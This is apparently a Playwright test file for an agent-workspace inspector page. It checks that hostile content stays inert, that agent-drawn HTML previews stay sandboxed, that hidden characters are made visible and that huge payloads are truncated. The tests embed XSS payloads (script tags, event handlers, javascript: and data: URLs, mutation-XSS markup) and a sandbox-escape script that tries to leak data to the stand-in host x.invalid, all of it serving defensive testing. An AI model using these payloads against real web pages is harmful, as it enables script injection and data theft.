import type { Page } from 'playwright-core';
import { describe, expect, it, onTestFinished } from 'vitest';
import { findBarriers, openPage } from '../../support/browser.ts';
import { SECRET } from '../../support/fake-engine.ts';
import { shareBrowser } from '../../support/shared-browser.ts';
import { AT, serveWorkspace, type Shown } from '../../support/shown-workspace.ts';

const DESKTOP = { viewport: { width: 1440, height: 900 }, colorScheme: 'light' } as const;
const DARK = { ...DESKTOP, colorScheme: 'dark' } as const;
const PHONE = { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true } as const;

const browser = shareBrowser();

/** Runs wherever text is taken for markup, code or an address, and reads from right to left. */
const HOSTILE =
  '\u202E"><script>hit()</script><img src=x onerror=hit()><svg onload=hit()>javascript:hit()//\u001B[31m';

/** The same wherever Markdown makes an element, a link or a picture. */
const MARKDOWN = [
  HOSTILE,
  `# ${HOSTILE}`,
  `- [ ] ${HOSTILE}`,
  `| ${HOSTILE} |`,
  '[link](javascript:hit()) [entity](&#106;avascript:hit()) ![picture](https://x/?leak) <https://x/"onclick=hit()>',
  '[data](data:text/html,<script>hit()</script>) [title](https://x "\\" onmouseover=hit()")',
  '<iframe src="javascript:hit()"></iframe><a href="javascript:hit()">a</a>',
  '<math><mtext></p><svg><style><img src=x onerror=hit()></style></svg></mtext></math>',
  `\`\`\`html"onload=hit()\n${HOSTILE}\n\`\`\``,
  '```html\n<script>hit()</script>\n```',
].join('\n\n');

/** What a script of a drawing may try; its own look is its own. */
const TRIES = `<style>h1 { color: rgb(1, 2, 3) }</style><h1>A drawing</h1><p id="outcome"></p>
<img src="https://x.invalid/?leak"><link rel="stylesheet" href="https://x.invalid/?leak">
<iframe src="https://x.invalid/?leak"></iframe>
<form action="https://x.invalid/?leak"></form>
<script>
const nameOf = (act) => { try { act(); return 'done' } catch (error) { return error.name } };
const page = nameOf(() => parent.hit());
const storage = nameOf(() => parent.sessionStorage.length);
document.forms[0].submit();
window.open('https://x.invalid/?leak');
navigator.sendBeacon?.('https://x.invalid/?leak');
fetch('https://x.invalid/?leak').then(() => 'done', (error) => error.name).then((fetched) => {
  document.getElementById('outcome').textContent = 'page: ' + page + ', storage: ' + storage + ', fetch: ' + fetched;
  document.body.append('tried');
});
</script>`;

const ADDRESSES = [
  'javascript:hit()',
  'JAVASCRIPT:hit()',
  'data:text/html,<script>hit()</script>',
  `https://x/"onmouseover="hit()`,
  'vbscript:hit()',
];

describe('content from outside', () => {
  it.each([
    ['in light', DESKTOP],
    ['in the dark', DARK],
    ['on a phone', PHONE],
  ])(
    'runs no script and builds no elements anywhere in the page, and hinders nobody %s',
    async (_how, screen) => {
      const { url, tell } = await serveWorkspace(hostileWorkspace());
      const { page, troubles } = await openPage(browser(), screen);
      onTestFinished(() => page.context().close());
      await page.addInitScript(watchScripts);
      await enter(page, url);
      tell({ type: 'error', payload: { code: HOSTILE, message: HOSTILE, context: { [HOSTILE]: HOSTILE } } });

      const seen: object[] = [];
      for (const look of PLACES) {
        await look(page, 'hasTouch' in screen);
        await page.getByText('<script>hit()</script>').filter({ visible: true }).first().waitFor();
        seen.push({ ...(await evidenceOf(page)), barriers: await findBarriers(page) });
      }

      expect(seen).toEqual(
        PLACES.map(() => ({ hits: 0, refused: [], foreign: [], addresses: WEB, barriers: [] })),
      );
      expect(troubles).toEqual([]);
    },
  );
});

describe('HTML that an agent drew', () => {
  it('runs apart from the page, asks for nothing and leads nowhere', async () => {
    const { url } = await serveWorkspace({
      drawn: {
        'tries.html': TRIES,
        'leaves.html': '<p>leaves</p><script>location = "https://x.invalid/?leak"</script>',
        'links.html':
          '<a href="https://x.invalid/?leak" ping="https://x.invalid/?leak">a</a><script>document.links[0].click()</script>',
        'is-sent-away.html': '<meta http-equiv="refresh" content="0;url=https://x.invalid/?leak"><p>sent</p>',
      },
    });
    const { page } = await openPage(browser(), DESKTOP);
    onTestFinished(() => page.context().close());
    await page.addInitScript(watchScripts);
    const reached: string[] = [];
    await page.context().route(/x\.invalid/, (route) => {
      reached.push(route.request().url());
      return route.abort();
    });
    await enter(page, url);
    await page.getByRole('tab', { name: 'Plans and previews' }).click();

    await page.getByRole('button', { name: 'tries.html' }).click();
    const drawn = page.frameLocator('iframe');
    await drawn.getByText('tried').waitFor();
    const colour = await drawn.locator('h1').evaluate((title) => getComputedStyle(title).color);
    const outcome = await drawn.locator('#outcome').textContent();
    for (const name of ['leaves.html', 'links.html', 'is-sent-away.html']) {
      const refusal = page.waitForEvent('console', (message) => message.text().includes("frame-src 'self'"));
      await page.getByRole('button', { name }).click();
      await refusal;
    }

    expect({ colour, outcome, hits: (await evidenceOf(page)).hits }).toEqual({
      colour: 'rgb(1, 2, 3)',
      outcome: 'page: SecurityError, storage: SecurityError, fetch: TypeError',
      hits: 0,
    });
    expect(reached).toEqual([]);
    expect(page.url()).toBe(`${url}/inspect`);
  });
});

describe('what cannot be seen', () => {
  it('is named, so that a request reads as it will be carried out', async () => {
    const request = requestOf('rm \u202Eevil\u202C\u001B[8m');
    const { url } = await serveWorkspace({ requests: [request] });
    const { page } = await openPage(browser(), DESKTOP);
    onTestFinished(() => page.context().close());
    await enter(page, url);

    await page.getByText('The whole request').click();
    const asked = await page.locator('.requests pre').allTextContents();

    expect(asked).toEqual([
      'rm ⟨U+202E⟩evil⟨U+202C⟩␛[8m',
      '{\n  "command": "rm ⟨U+202E⟩evil⟨U+202C⟩\\u001b[8m"\n}',
    ]);
  });
});

describe('what is too long', () => {
  it.each([
    ['on a screen', DESKTOP],
    ['on a small one', { viewport: { width: 1024, height: 600 } }],
    ['on a phone', PHONE],
  ])(
    'leaves the answers to a request in sight %s, and gives the rest piece by piece',
    async (_where, screen) => {
      const { url, answers } = await serveWorkspace({
        requests: [requestOf('x'.repeat(1_000_000)), { ...requestOf('y'.repeat(1_000_000)), id: 'r2' }],
      });
      const { page } = await openPage(browser(), screen);
      onTestFinished(() => page.context().close());
      await enter(page, url);
      const asked = page.locator('.requests li').first();
      const subject = asked.locator('pre.subject');

      const before = (await subject.textContent())?.length ?? 0;
      await subject.getByText(/^… [\d,]+ more characters/).waitFor();
      await subject.getByRole('button', { name: 'Show more' }).click();
      await expect.poll(async () => (await subject.textContent())?.length).toBeGreaterThan(before + 40_000);
      const saving = page.waitForEvent('download');
      await subject.getByRole('button', { name: 'Save all' }).click();
      await (await saving).cancel();

      expect(before).toBeLessThan(5_000);
      for (const name of ['Allow', 'Deny']) {
        const button = asked.getByRole('button', { name, exact: true });
        await expect.poll(() => isInSight(button)).toBe(true);
      }
      await asked.getByRole('button', { name: 'Deny', exact: true }).click();
      await expect.poll(() => answers).toEqual(['the-chat r1 deny']);
    },
  );

  it('is not put into the page: lines of hooks, of diffs, of messages and results', async () => {
    const long = 'x'.repeat(65_536);
    const { url } = await serveWorkspace({
      hookLines: Array.from({ length: 400 }, (_, number) => `[app] ${number} ${long}`),
      diff: [
        `+${'y'.repeat(1_000_000)}`,
        ...Array.from({ length: 5_000 }, () => `+${long.slice(0, 2_000)}`),
      ].join('\n'),
      history: [
        said('claude-user', { message: { content: 'u'.repeat(1_000_000) } }),
        said('claude-assistant', {
          message: { content: [{ type: 'tool_use', id: 't', name: 'Bash', input: { command: long } }] },
        }),
        said('claude-user', {
          message: { content: [{ type: 'tool_result', tool_use_id: 't', content: long.repeat(10) }] },
        }),
      ],
    });
    const { page } = await openPage(browser(), DESKTOP);
    onTestFinished(() => page.context().close());
    await enter(page, url);

    const sizes: Record<string, number> = {};
    for (const [name, place] of [
      ['Chats', '.conversation .said'],
      ['Boot and hooks', '.terminal .rest'],
      ['Repositories', '.diff .rest'],
    ] as const) {
      await page.getByRole('tab', { name }).click();
      await page.locator(place).first().waitFor();
      sizes[name] = await page.evaluate(() => document.body.textContent.length);
    }
    await page.getByText('4,501 more lines').waitFor();

    expect(Math.max(...Object.values(sizes))).toBeLessThan(400_000);
  });
});

/** No protocol but this one. */
const WEB = expect.toSatisfy((protocols: string[]) => protocols.every((protocol) => protocol === 'https:'));

function hostileWorkspace(): Partial<Shown> {
  const tool = { type: 'tool_use', id: 't', name: HOSTILE, input: { command: HOSTILE, [HOSTILE]: HOSTILE } };
  const edit = {
    type: 'tool_use',
    id: 'e',
    name: 'Edit',
    input: { old_string: HOSTILE, new_string: HOSTILE },
  };
  return {
    word: HOSTILE,
    prUrls: ADDRESSES,
    diff: `diff --git a/${HOSTILE}\n@@ ${HOSTILE}\n+${HOSTILE}\n-${HOSTILE}`,
    hookLines: [HOSTILE],
    waiting: [HOSTILE],
    drawn: { [HOSTILE]: HOSTILE },
    requests: [
      requestOf(HOSTILE),
      { ...requestOf(HOSTILE), id: 'r2', kind: 'plan', plan: MARKDOWN },
      {
        ...requestOf(HOSTILE),
        id: 'r3',
        kind: 'question',
        questions: [{ question: HOSTILE, options: [{ label: HOSTILE, description: HOSTILE }] }],
      },
      {
        ...requestOf(HOSTILE),
        id: 'r4',
        kind: 'budget',
        budget: { tokens: 5 },
        used: { usd: 0, tokens: 7, turns: 1 },
      },
    ],
    history: [
      said('claude-user', { message: { content: HOSTILE } }),
      said('claude-assistant', {
        message: {
          content: [{ type: 'text', text: MARKDOWN }, { type: 'thinking', thinking: MARKDOWN }, tool, edit],
        },
      }),
      said('claude-user', {
        message: { content: [{ type: 'tool_result', tool_use_id: 't', content: HOSTILE, is_error: true }] },
      }),
      said('claude-result', { is_error: true, result: HOSTILE }),
    ],
  };
}

function requestOf(command: string) {
  return {
    id: 'r1',
    kind: 'permission' as const,
    tool: command.length < 500 ? command : 'Bash',
    input: { command },
    openedAt: AT,
    expiresAt: AT,
  };
}

function said(type: string, payload: Record<string, unknown>) {
  return { timestamp: AT, type, payload };
}

/** Each part of the page, with everything in it unfolded. */
const PLACES = [
  partOf('Work', 'Chats'),
  partOf('Work', 'Boot and hooks'),
  partOf('Work', 'Repositories'),
  partOf('Work', 'Plans and previews'),
  partOf('Work', 'Credentials'),
  partOf('Actors', null),
  partOf('Details', 'Transitions'),
  partOf('Details', 'Context'),
  partOf('Details', 'Events'),
];

function partOf(part: string, tab: string | null) {
  return async (page: Page, isPhone: boolean) => {
    if (isPhone) await page.getByRole('button', { name: part, exact: true }).click();
    if (tab !== null) await page.getByRole('tab', { name: tab }).click();
    await page.evaluate(() =>
      document.querySelectorAll('details').forEach((details) => (details.open = true)),
    );
  };
}

/** Runs in the page, before anything else there. */
function watchScripts(): void {
  const found = { hits: 0, refused: [] as string[] };
  Object.assign(globalThis, { found, hit: () => (found.hits += 1) });
  document.addEventListener('securitypolicyviolation', ({ violatedDirective }) =>
    found.refused.push(violatedDirective),
  );
}

/** What of the content was run, tried, or became an element or an address. */
function evidenceOf(page: Page) {
  return page.evaluate(() => {
    const { hits, refused } = (globalThis as unknown as { found: { hits: number; refused: string[] } }).found;
    const foreign = [...document.querySelectorAll('body :is(img, script, iframe, object, embed)')];
    const addresses = [...document.querySelectorAll('a')].map(({ protocol }) => protocol);
    return { hits, refused, foreign: foreign.map(({ outerHTML }) => outerHTML), addresses };
  });
}

function isInSight(button: ReturnType<Page['getByRole']>): Promise<boolean> {
  return button.evaluate((element) => {
    const { left, top, width, height } = element.getBoundingClientRect();
    return document.elementFromPoint(left + width / 2, top + height / 2) === element;
  });
}

async function enter(page: Page, url: string): Promise<void> {
  await page.goto(`${url}/inspect`);
  await page.getByLabel('Secret').fill(SECRET);
  await page.getByRole('button', { name: 'Open' }).click();
  await page.getByText('Live', { exact: true }).waitFor();
  const both = page.getByRole('button', { name: 'Both' });
  if (await both.isVisible()) await both.click();
}
